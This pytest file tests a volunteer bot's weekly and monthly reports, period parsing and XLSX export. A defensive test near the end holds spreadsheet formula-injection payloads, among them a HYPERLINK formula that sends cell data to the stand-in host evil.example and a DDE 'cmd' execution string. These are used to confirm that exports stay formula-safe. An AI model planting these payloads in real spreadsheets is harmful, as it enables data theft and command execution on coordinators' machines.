"""周台账 / 月小结 figures on a known dataset (tests/report_data.py), and reading periods."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from bot.core.errors import DomainError
from bot.core.i18n import make_i18n
from bot.ledger import service as ledger
from bot.reports import service as reports
from bot.reports import xlsx
from bot.reports.service import build_report, ledger_lines, month_of, parse_period, week_of
from bot.reports.xlsx import workbook
from storage.db import Database
from storage.models import Service, Team, User, Volunteer
from tests import databases
from tests import report_data as data
from tests.report_data import SHANGHAI, WEEK


@pytest.fixture
async def db(tmp_path, tmp_path_factory):
    database = Database(await databases.sqlite_database(tmp_path / "reports.db", tmp_path_factory.getbasetemp()))
    yield database
    await database.dispose()


@pytest.fixture
async def seeded(db):
    return db, await data.seed(db)


async def test_week_figures(seeded):
    db, ids = seeded
    async with db.read() as s:
        r = await build_report(s, week_of(dt.date(2026, 11, 19)), SHANGHAI)
    assert r.period.label == "2026-W47" and r.period.key == "report:week:2026-W47"
    assert (r.start, r.end) == (data.at(16), data.at(23))
    got = {name: getattr(r, name) for name in WEEK}
    assert got == WEEK
    assert r.rating_count == 3 and r.rating_average == 4.0 and r.volunteers == 4  # 陈刚: only a reversal
    teams = {h.name_zh: (h.minutes, h.points, h.volunteers, h.entries) for h in r.by_team}
    assert teams == {"助老服务队": (330, 55, 3, 4), "环保服务队": (120, 20, 2, 4)}
    services = {(h.kind, h.name_en): (h.minutes, h.points, h.volunteers) for h in r.by_service}
    assert services == {
        ("service", "Clinic escort"): (90, 15, 2),
        ("service", "Cleaning"): (120, 20, 2),
        ("activity", "重阳敬老"): (240, 40, 2),
    }
    assert [h.kind for h in r.by_service] == ["service", "service", "activity"]
    assert [(a.title, a.volunteers, a.minutes) for a in r.activities] == [("重阳敬老", 2, 240)]
    assert sum(h.minutes for h in r.by_team) == sum(h.minutes for h in r.by_service) == r.minutes


async def test_month_and_empty_periods(seeded):
    db, _ids = seeded
    async with db.read() as s:
        november = await build_report(s, month_of(2026, 11), SHANGHAI)
        empty = await build_report(s, month_of(2026, 1), SHANGHAI)
    assert november.period.key == "report:month:2026-11"
    assert november.placed == 12 and november.claimed == 6 and november.done == 5
    assert november.minutes == 450 + 45 + 45 and november.ratings == {1: 1, 2: 0, 3: 1, 4: 1, 5: 1}
    assert empty.placed == empty.minutes == empty.volunteers_active == empty.rating_count == 0
    assert empty.median_claim_minutes is None and empty.rating_average is None and empty.by_team == []


async def test_ledger_lines_and_workbook_totals(seeded):
    db, _ids = seeded
    period = week_of(dt.date(2026, 11, 16))
    async with db.read() as s:
        report = await build_report(s, period, SHANGHAI)
        lines = await ledger_lines(s, period, SHANGHAI)
    assert len(lines) == WEEK["entries"]
    assert sum(line.minutes for line in lines) == 450 and sum(line.points for line in lines) == 75
    reversal = next(line for line in lines if line.kind == "reversal" and line.volunteer == "张华")
    assert reversal.team == "环保服务队" and reversal.service_zh == "清扫" and reversal.reason == "实际1.5小时"
    assert lines[0].at == data.at(16, 10) and lines[0].volunteer == "王芳"

    i18n = make_i18n()
    for locale, header, total in (("zh_Hans", "志愿者", "合计"), ("en", "Volunteer", "Total")):
        with i18n.context(), i18n.use_locale(locale):
            content = workbook(report, lines, SHANGHAI, locale)
        book = load_workbook(io.BytesIO(content))
        summary, ledger = book.worksheets
        rows = list(ledger.iter_rows(values_only=True))
        assert header in rows[0]
        hours_col, points_col = 4, 5
        body, last = rows[1:-1], rows[-1]
        assert len(body) == len(lines) and last[0] == total
        assert last[hours_col] == sum(row[hours_col] for row in body) == 7.5
        assert last[points_col] == sum(row[points_col] for row in body) == 75
        assert rows[1][0] == "2026-11-16 10:00"
        text = " ".join(str(c) for row in rows + list(summary.iter_rows(values_only=True)) for c in row if c)
        for phone in data.PHONES + ("13912345678",):
            assert phone not in text  # no phone of anyone
        assert "3栋402" not in text
        assert ledger.column_dimensions["B"].width >= 10


@pytest.mark.parametrize(
    "args, period",
    [
        ("week 2026-11-19", reports.Period("week", dt.date(2026, 11, 16), dt.date(2026, 11, 22))),
        ("WEEK", reports.Period("week", dt.date(2026, 11, 23), dt.date(2026, 11, 29))),
        ("month", reports.Period("month", dt.date(2026, 11, 1), dt.date(2026, 11, 30))),
        ("month 2026-02", reports.Period("month", dt.date(2026, 2, 1), dt.date(2026, 2, 28))),
        ("month 2024-2", reports.Period("month", dt.date(2024, 2, 1), dt.date(2024, 2, 29))),
        ("month 2025-12", reports.Period("month", dt.date(2025, 12, 1), dt.date(2025, 12, 31))),
        ("week 2026-W47", reports.Period("week", dt.date(2026, 11, 16), dt.date(2026, 11, 22))),
    ],
)
def test_parse_period(args, period):
    assert parse_period(args, dt.date(2026, 11, 25)) == period


@pytest.mark.parametrize(
    "args, code",
    [
        ("", "report_usage"),
        ("year", "report_usage"),
        ("week 2026-11-16 x", "report_usage"),
        ("month 2026-13", "report_bad_month"),
        ("month 2026", "report_bad_month"),
        ("month 26-10", "report_bad_month"),
        ("week 2026-02-30", "report_bad_week"),
        ("week soon", "report_bad_week"),
        ("week 0001-01-01", "report_bad_week"),
        ("month 0001-01", "report_bad_month"),
        ("month 2026-0", "report_bad_month"),
        ("month x" * 500, "report_usage"),
        ("month " + "9" * 500, "report_bad_month"),
        ("month 2026-12", "report_future"),
        ("week 2026-11-30", "report_future"),
    ],
)
def test_parse_period_refuses(args, code):
    with pytest.raises(DomainError) as exc:
        parse_period(args, dt.date(2026, 11, 25))
    assert exc.value.code == code


def test_previous_periods_and_bounds():
    assert week_of(dt.date(2026, 1, 1)).label == "2026-W01"
    assert week_of(dt.date(2027, 1, 1)).label == "2026-W53"
    assert week_of(dt.date(2026, 11, 23)).previous() == week_of(dt.date(2026, 11, 16))
    assert month_of(2026, 1).previous() == month_of(2025, 12)
    start, end = month_of(2026, 10).bounds(SHANGHAI)
    assert start == dt.datetime(2026, 9, 30, 16, tzinfo=dt.timezone.utc)
    assert end == dt.datetime(2026, 10, 31, 16, tzinfo=dt.timezone.utc)


async def test_one_teams_figures(seeded):
    db, ids = seeded
    period = week_of(dt.date(2026, 11, 16))
    async with db.read() as s:
        r = await build_report(s, period, SHANGHAI, team_id=ids.team1)
        lines = await ledger_lines(s, period, SHANGHAI, team_id=ids.team1)
    assert r.team_name == "助老服务队"
    assert (r.placed, r.claimed, r.done, r.cancelled, r.rejected, r.waiting, r.in_review) == (7, 4, 3, 0, 1, 1, 1)
    assert r.median_claim_minutes == 25
    assert (r.minutes, r.points, r.entries, r.volunteers_active) == (330, 55, 4, 2)
    assert (r.residents_served, r.services_delivered) == (3, 3)
    assert r.ratings == {1: 0, 2: 0, 3: 1, 4: 0, 5: 1}
    assert [h.name_zh for h in r.by_team] == ["助老服务队"]
    assert [(h.name_zh, h.minutes) for h in r.by_service] == [("陪诊", 90), ("重阳敬老", 240)]
    assert len(lines) == 4 and {line.team for line in lines} == {"助老服务队"}
    assert sum(line.minutes for line in lines) == 330


# Formula-safe workbooks -------------------------------------------------------------------------------------------

ATTACKS = {
    "volunteer": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "team": "+1+2",
    "service": "-2+3",
    "approver": "@SUM(1+1)",
    "reason": "\t=1+1",
    "reason2": "\r=cmd|' /C calc'!A0",
}


async def test_workbook_cells_that_look_like_formulas_stay_text(seeded):
    """A volunteer named "=HYPERLINK(…)" (or a team "+1+2", a service "-2+3", an approver "@SUM(…)", a reason that
    starts with a tab or a carriage return) is text in the coordinator's workbook, never a formula."""
    db, ids = seeded
    async with db.tx() as s:
        await s.execute(update(Volunteer).where(Volunteer.user_id == data.V1).values(name=ATTACKS["volunteer"]))
        await s.execute(update(Team).where(Team.id == ids.team1).values(name=ATTACKS["team"]))
        await s.execute(update(Service).where(Service.id == ids.cleaning).values(name_zh=ATTACKS["service"]))
        await s.execute(update(User).where(User.id == data.COORD).values(full_name=ATTACKS["approver"]))
        for reason in (ATTACKS["reason"], ATTACKS["reason2"]):
            ledger.add_service(
                s,
                volunteer_id=data.V2,
                minutes=30,
                points_per_hour=10,
                request_id=None,
                approved_by=data.COORD,
                now=data.at(18, 12),
                reason=reason,
            )
    period = week_of(dt.date(2026, 11, 16))
    async with db.read() as s:
        report = await build_report(s, period, SHANGHAI)
        lines = await ledger_lines(s, period, SHANGHAI)
    with make_i18n().context(), make_i18n().use_locale("zh_Hans"):
        content = workbook(report, lines, SHANGHAI, "zh_Hans")

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # not one formula

    book = load_workbook(io.BytesIO(content))
    cells = {c.value: c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for attack in ATTACKS.values():
        attack = attack.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert attack in cells, attack
        assert cells[attack].data_type == "s" and cells[attack].quotePrefix, attack
    assert not cells["志愿者"].quotePrefix  # ordinary text carries no prefix
    ledger_rows = list(book.worksheets[1].iter_rows(values_only=True))
    assert ledger_rows[-1][4] == sum(row[4] for row in ledger_rows[1:-1])  # numbers are still numbers


def test_cells_keep_numbers_and_drop_what_a_workbook_cannot_hold():
    book = Workbook(write_only=True)
    ws = book.create_sheet("x")
    xlsx.append(ws, ["=1+1", -3, 2.5, None, "#N/A", "a\x01b", "-"])
    values = [c.value for c in load_workbook(io.BytesIO(xlsx.workbook_bytes(book))).worksheets[0][1]]
    assert values == ["=1+1", -3, 2.5, None, "#N/A", "ab", "-"]


def test_only_this_module_writes_workbooks():
    """Every .xlsx export goes through bot/reports/xlsx.py (whose rows all go through `append`)."""
    root = Path(__file__).resolve().parents[2]
    users = [
        str(path.relative_to(root))
        for folder in ("bot", "handlers", "scheduling")
        for path in (root / folder).rglob("*.py")
        if "openpyxl" in path.read_text(encoding="utf-8")
    ]
    assert users == ["bot/reports/xlsx.py"]
    source = (root / "bot" / "reports" / "xlsx.py").read_text(encoding="utf-8")
    assert source.count(".append(") == 1  # the one in append(): no row is written around it
